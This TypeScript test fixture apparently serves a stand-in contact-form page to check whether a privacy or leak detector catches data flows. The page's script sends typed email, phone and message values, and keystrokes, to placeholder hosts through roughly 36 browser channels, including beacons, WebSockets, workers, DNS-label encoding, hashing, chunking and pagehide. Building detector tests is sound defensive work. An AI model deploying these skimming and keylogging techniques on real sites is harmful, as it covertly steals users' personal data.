import { type Answer, type StandIn, startStandIn } from './stand-in.ts'

/** One way to send what was typed: `code` has `v` (the value), `host` (whom to) and `text(v)` (a JSON note of it). */
type FlowWay = { name: string; field: 'email' | 'phone' | 'message'; code: string; when?: 'key' | 'hide' }

const way = (name: string, code: string, field: FlowWay['field'] = 'email', when?: FlowWay['when']): FlowWay => ({
  name,
  field,
  code,
  ...(when === undefined ? {} : { when }),
})
const posted = (body: string) => `fetch('https://' + host + '/in', { method: 'POST', mode: 'no-cors', body: ${body} })`

/** Ways in which only a browser shows whether they are seen; each has a host of its own, so that a miss has a name. */
const flowWays: ReadonlyArray<FlowWay> = [
  way('image', `new Image().src = 'https://' + host + '/p.gif?u=' + encodeURIComponent(v)`),
  way('fetch', posted('text(v)')),
  way(
    'keepalive',
    `fetch('https://' + host + '/in', { method: 'POST', mode: 'no-cors', keepalive: true, body: btoa(v) })`,
  ),
  way('beacon', `navigator.sendBeacon('https://' + host + '/in', new URLSearchParams({ u: v }))`, 'phone'),
  way('beacon-blob', `navigator.sendBeacon('https://' + host + '/in', new Blob([text(v)], { type: 'text/plain' }))`),
  way(
    'xhr',
    `const x = new XMLHttpRequest(); x.open('POST', 'https://' + host + '/in'); x.send('a=1&mail=' + encodeURIComponent(v))`,
  ),
  way('multipart', `const f = new FormData(); f.append('tel', v); ${posted('f')}`, 'phone'),
  way(
    'file',
    `const f = new FormData(); f.append('notes', new File([text(v)], 'notes.json')); ${posted('f')}`,
    'message',
  ),
  way('bytes', posted('new TextEncoder().encode(text(v))'), 'message'),
  way('gzip', `packed(v, 'gzip').then((body) => ${posted('body')})`),
  way('deflate', `packed(v, 'deflate-raw').then((body) => ${posted('body')})`, 'message'),
  way(
    'gzip-base64',
    `packed(v, 'gzip').then((body) => { new Image().src = 'https://' + host + '/p?d=' + encodeURIComponent(btoa(String.fromCharCode(...body))) })`,
  ),
  way('sha256', `digest('SHA-256', v.toLowerCase()).then((h) => ${posted(`'em=' + h`)})`),
  way('sha512-phone', `digest('SHA-512', '1' + v.replace(/\\D/g, '')).then((h) => ${posted(`'ph=' + h`)})`, 'phone'),
  way('salted', `digest('SHA-256', salt + v.toLowerCase()).then((h) => ${posted(`'h=' + h`)})`),
  way('hmac', `keyed(v.toLowerCase()).then((h) => ${posted(`JSON.stringify({ h })`)})`),
  way('socket', `socketTo(host).send(text(v))`),
  way('socket-binary', `socketTo(host).send(new TextEncoder().encode(btoa(text(v))))`, 'message'),
  way('socket-keys', `socketTo(host).send(JSON.stringify({ k: v }))`, 'email', 'key'),
  way(
    'request-keys',
    `new Image().src = 'https://' + host + '/k?t=' + performance.now() + '&k=' + encodeURIComponent(v)`,
    'phone',
    'key',
  ),
  way('worker', `worker.postMessage(['https://' + host + '/in', text(v)])`),
  way('shared-worker', `shared.port.postMessage(['https://' + host + '/in?u=' + encodeURIComponent(v), ''])`),
  way(
    'service-worker',
    `navigator.serviceWorker.ready.then(({ active }) => active.postMessage(['https://' + host + '/in?u=' + encodeURIComponent(v), '']))`,
  ),
  way('frame', `frames.inner.postMessage(['https://' + host + '/in', text(v)], '*')`),
  way(
    'script',
    `const s = document.createElement('script'); s.src = 'https://' + host + '/j.js?u=' + encodeURIComponent(v); document.head.append(s)`,
  ),
  way(
    'style',
    `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://' + host + '/s.css?u=' + btoa(v); document.head.append(l)`,
  ),
  way(
    'background',
    `document.body.style.backgroundImage = 'url(https://' + host + '/b.png?u=' + encodeURIComponent(v) + ')'`,
  ),
  way(
    'hidden-frame',
    `const f = document.createElement('iframe'); f.src = 'https://' + host + '/f?u=' + encodeURIComponent(v); document.body.append(f)`,
  ),
  way('event-source', `new EventSource('https://' + host + '/e?u=' + encodeURIComponent(v))`),
  way('audio', `new Audio('https://' + host + '/a.mp3?u=' + encodeURIComponent(v)).load()`),
  way(
    'referrer',
    `history.replaceState(null, '', '?q=' + encodeURIComponent(v)); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = 'https://' + host + '/r.gif'; setTimeout(() => history.replaceState(null, '', location.pathname), 50)`,
    'message',
  ),
  way(
    'pieces',
    `v.match(/.{1,5}/g).forEach((part, at) => { new Image().src = 'https://' + host + '/c?n=' + at + '&part=' + encodeURIComponent(part) })`,
    'message',
  ),
  way(
    'host-label',
    `new Image().src = 'https://' + [...v.split('@')[0]].map((c) => c.charCodeAt(0).toString(16)).join('') + '.' + host + '/x.gif'`,
  ),
  way('delayed', `setTimeout(() => ${posted('text(v)')}, 8000)`),
  way('interval', `queue.push([host, text(v)])`, 'message'),
  way('page-hide', `navigator.sendBeacon('https://' + host + '/bye', text(v))`, 'email', 'hide'),
]

export const flowHost = (name: string) => `${name}.flows.example`

/** The same sender that only ever says the same thing, whatever is typed, is the clean twin. */
function flowPage(isClean: boolean): string {
  const calls = flowWays.map(({ name, field, code, when = 'change' }) =>
    JSON.stringify({ host: flowHost(name), field, when }).replace(/}$/, `, run: (v, host) => { ${code} } }`),
  )
  return `<!doctype html><html lang="en"><title>Send a message</title><h1>Send a message</h1><p>We answer within a day.</p>
<form><label>Email <input type="email" name="email"></label><label>Phone <input type="tel" name="phone"></label>
<label>Message <textarea name="message"></textarea></label></form>
<iframe name="inner" srcdoc="<script>onmessage = ({ data: [url, body] }) => fetch(url, { method: 'POST', mode: 'no-cors', body })</script>"></iframe>
<script>
const salt = 'northgate-pepper', queue = [], sockets = {}
const text = (v) => JSON.stringify({ page: location.pathname, note: v, more: 'words words words' })
const hex = (buffer) => [...new Uint8Array(buffer)].map((b) => b.toString(16).padStart(2, '0')).join('')
const digest = async (name, v) => hex(await crypto.subtle.digest(name, new TextEncoder().encode(v)))
async function keyed(v) {
  const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(salt), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
  return hex(await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(v)))
}
const packed = async (v, format) => new Uint8Array(await new Response(new Blob([text(v)]).stream().pipeThrough(new CompressionStream(format))).arrayBuffer())
const socketTo = (host) => sockets[host]
const relay = "onmessage = ({ data: [url, body] }) => fetch(url, body === '' ? { mode: 'no-cors' } : { method: 'POST', mode: 'no-cors', body })"
const worker = new Worker(URL.createObjectURL(new Blob([relay])))
const shared = new SharedWorker('/shared.js')
navigator.serviceWorker.register('/sw.js')
const ways = [${calls.join(',\n')}]
for (const { host } of ways) if (/^socket/.test(host)) sockets[host] = new WebSocket('wss://' + host + '/live')
setInterval(() => { for (const [host, body] of queue.splice(0)) fetch('https://' + host + '/in', { method: 'POST', mode: 'no-cors', body }) }, 2500)
const run = (field, when, v) => { for (const way of ways) if (way.field === field && way.when === when) try { way.run(v, way.host) } catch {} }
const said = (v) => ${isClean ? `'the same for everybody, 0123456789'` : 'v'}
const last = {}
for (const input of document.querySelectorAll('input, textarea')) {
  input.addEventListener('change', () => { last[input.name] = input.value; run(input.name, 'change', said(input.value)) })
  input.addEventListener('keydown', ({ key }) => run(input.name, 'key', ${isClean ? `'x'` : 'key'}))
}
addEventListener('pagehide', () => { if (last.email) run('email', 'hide', said(last.email)) })
</script>`
}

const relayScript = `const relay = ({ data: [url] }) => fetch(url, { mode: 'no-cors' })`
const files: Record<string, readonly [type: string, body: string]> = {
  '/': ['text/html', flowPage(false)],
  '/clean': ['text/html', flowPage(true)],
  '/shared.js': ['text/javascript', `${relayScript}\nonconnect = ({ ports: [port] }) => { port.onmessage = relay }`],
  '/sw.js': [
    'text/javascript',
    `${relayScript}\nonmessage = relay\nonactivate = (event) => event.waitUntil(clients.claim())`,
  ],
}

export const flowCount = flowWays.length
export const flowUrl = (clean: boolean) => `https://flows.test/${clean ? 'clean' : ''}`

export function startFlowSite(): Promise<StandIn> {
  const page: Answer = ({ path }, response) => {
    const [type, body] = files[path.split('?')[0]!] ?? ['text/plain', '']
    response.writeHead(body === '' ? 404 : 200, { 'content-type': type }).end(body)
  }
  const nobody: Answer = (_request, response) => void response.writeHead(204).end()
  return startStandIn({
    'flows.test': page,
    ...Object.fromEntries(flowWays.map(({ name }) => [flowHost(name), nobody])),
  })
}

/** Ways whose typed field the leaks do not tell; a value in a host name is told under that longer name. */
export function missedFlows(leaks: ReadonlyArray<{ recipient: string; field: string }>): Array<string> {
  return flowWays
    .filter(({ name, field }) => !leaks.some((leak) => leak.recipient.endsWith(flowHost(name)) && leak.field === field))
    .map(({ name }) => name)
}
